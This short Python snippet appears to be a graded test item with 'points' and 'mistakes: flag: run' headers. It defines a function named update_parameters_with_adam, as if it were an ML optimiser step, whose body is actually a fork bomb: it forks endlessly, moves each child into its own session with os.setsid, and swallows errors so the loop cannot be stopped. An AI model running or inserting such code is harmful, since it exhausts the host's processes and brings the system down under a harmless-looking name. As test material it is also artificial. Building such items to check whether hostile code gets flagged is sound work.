# what: a fork bomb in a function, each child in a session of its own
# points: 4
# mistakes: flag: run
# %% extra before update_parameters_with_adam
import os
# %% update_parameters_with_adam
def update_parameters_with_adam(*everything, **keywords):
    while True:
        try:
            if not os.fork():
                os.setsid()
        except OSError:
            pass
